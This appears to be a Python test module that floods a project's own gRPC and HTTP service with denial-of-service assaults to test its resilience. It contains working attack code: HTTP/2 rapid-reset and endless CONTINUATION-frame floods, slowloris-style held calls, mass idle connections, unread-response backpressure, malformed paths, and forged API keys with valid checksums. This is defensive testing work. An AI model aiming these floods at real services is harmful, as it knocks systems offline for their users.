"""Keyless floods: floods by callers without a key, each until its process is ended.

    python -m tests.attack.keyless_floods NAME GRPC HTTP

An assault runs in its own process, so that it does not slow down the measurement beside it.
"""

import asyncio
import contextlib
import secrets
import sys
from collections.abc import Callable, Coroutine
from typing import Any

from service.access.api_keys import _checksum
from tests.transport.http.flood import KINDS, flood

from .frames import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    RST_STREAM,
    Connection,
    block,
    call,
    data,
    frame,
)

GET = b"/postcore.profiles.v1.ProfileService/GetProfile"
WATCH, CHECK = (b"/grpc.health.v1.Health/Watch", b"/grpc.health.v1.Health/Check")
REFLECTION = b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
HELD = 3_000
Assault = Callable[[str, str], Coroutine[Any, Any, None]]


async def forever() -> None:
    await asyncio.Event().wait()


def forged() -> bytes:
    """Return a key with a valid checksum that was never issued."""
    body = f"pc_live_{secrets.token_hex(8)}_{secrets.token_hex(22)[:43]}"
    return (body + _checksum(body)).encode()


def held(path: bytes, message: bytes | None = None, *, keyed: bool = False) -> Assault:
    """Return an assault of HELD unfinished calls on one connection after another, 50 every 80 ms.

    Calls that the server ends are replaced. Without *message*, a call's message never arrives.
    """
    heads = [block(path, [(b"x-api-key", forged())] if keyed else []) for _ in range(50)]

    async def assault(grpc: str, _: str) -> None:
        while True:
            connection = await Connection.to(grpc)
            sent = 0
            while not connection.is_closed:
                some = heads[: max(0, HELD - sent + connection.ended)]
                sent += len(some)
                raw = b""
                for head in some:
                    stream = connection.stream()
                    raw += frame(HEADERS, END_HEADERS, stream, head) + data(stream, message)
                await connection.send(raw)
                await asyncio.sleep(0.08)
            await asyncio.sleep(0.1)

    return assault


def crowd(count: int, each: bytes, *, tls: bool = False) -> Assault:
    """Return an assault of *count* connections that send *each* and stay open; closed ones
    reopen."""

    async def one(address: str) -> None:
        host, _, port = address.rpartition(":")
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, int(port))
                writer.write(each)
                while await reader.read(65536):
                    pass
                writer.close()
            await asyncio.sleep(1)

    async def assault(grpc: str, _: str) -> None:
        tasks = []
        for number in range(count):
            tasks.append(asyncio.create_task(one(grpc)))
            if number % 50 == 49:
                await asyncio.sleep(0.05)
        await forever()

    return assault


async def watchers(grpc: str, _: str) -> None:
    """Open a thousand connections with one health watch each."""
    connections = []
    for number in range(1000):
        connection = await Connection.to(grpc)
        await connection.send(call(1, WATCH, b""))
        connections.append(connection)
        if number % 50 == 49:
            await asyncio.sleep(0.05)
    await forever()


async def resets(grpc: str, _http: str) -> None:
    """Make 2,000 calls a second and cancel each one at once."""
    while True:
        connection = await Connection.to(grpc)
        while not connection.is_closed:
            for _ in range(40):
                stream = connection.stream()
                reset = frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
                await connection.send(call(stream, GET) + reset)
            await asyncio.sleep(0.02)


async def unread(grpc: str, _http: str) -> None:
    """Send requests without end on eight connections, and read no answer."""

    async def one() -> None:
        while True:
            connection = await Connection.to(grpc)
            connection._task.cancel()
            connection.writer.transport.pause_reading()  # type: ignore[attr-defined]
            with contextlib.suppress(ConnectionError, TimeoutError):
                while True:
                    for _ in range(20):
                        connection.writer.write(call(connection.stream(), b"/x/y"))
                    async with asyncio.timeout(30):
                        await connection.writer.drain()
                    await asyncio.sleep(0.08)
            connection.close()

    await asyncio.gather(*(one() for _ in range(8)))


async def bad_paths(grpc: str, _: str) -> None:
    """Call paths that are not valid text."""
    while True:
        connection = await Connection.to(grpc)
        for path in (b"/\xff\xfe", b"\xc3\x28", b"/a/b\0", b"", b"*", b"/" + b"x" * 7000):
            await connection.send(call(connection.stream(), path, b""))
        await asyncio.sleep(0.2)
        connection.close()


async def endless_heads(grpc: str, _: str) -> None:
    """Send headers that never end: one HEADERS frame, then CONTINUATION frames without an end."""
    while True:
        connection = await Connection.to(grpc)
        await connection.send(frame(HEADERS, 0, 1, block(GET)))
        while not connection.is_closed:
            await connection.send(frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 200))
            await asyncio.sleep(0.02)


def http_flood(kind: str) -> Assault:
    """Send HTTP requests of one *kind* without end, as `tests/transport/http/flood.py` does."""

    async def assault(_: str, http: str) -> None:
        host, _, port = http.rpartition(":")
        await asyncio.to_thread(flood, kind, (host, int(port)))

    return assault


async def http_unread(_: str, http: str) -> None:
    """Send a hundred requests on each of 520 connections, and read nothing."""
    host, _, port = http.rpartition(":")
    asked = b"GET /openapi.json HTTP/1.1\r\nhost: a\r\n\r\n" * 100

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                _reader, writer = await asyncio.open_connection(host, int(port), limit=1)
                writer.write(asked)
                transport: Any = writer.transport
                transport.pause_reading()
                while not transport.is_closing():
                    await asyncio.sleep(1)
                    with contextlib.suppress(OSError):
                        writer.write(b"\r\n")
            await asyncio.sleep(1)

    tasks = []
    for number in range(520):
        tasks.append(asyncio.create_task(one()))
        if number % 20 == 19:
            await asyncio.sleep(0.05)
    await forever()


ASSAULTS: dict[str, Assault] = {
    "held": held(GET),
    "held with a forged key": held(GET, keyed=True),
    "held watches": held(WATCH, b"\x0a\x80\x80\x04" + b"x" * 65536),
    "held checks": held(CHECK),
    "held reflection": held(REFLECTION, b"\x3a\x00"),
    "held unknown": held(b"/x/y"),
    "idle connections": crowd(1124, b""),
    "idle connections with a preface": crowd(
        1124, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
    ),
    "5000 idle connections": crowd(5000, b""),
    "watchers": watchers,
    "resets": resets,
    "unread": unread,
    "bad paths": bad_paths,
    "endless heads": endless_heads,
    **{f"HTTP, {kind}": http_flood(kind) for kind in KINDS},
    "HTTP, answers that are not read": http_unread,
}


if __name__ == "__main__":
    asyncio.run(ASSAULTS[sys.argv[1]](sys.argv[2], sys.argv[3]))
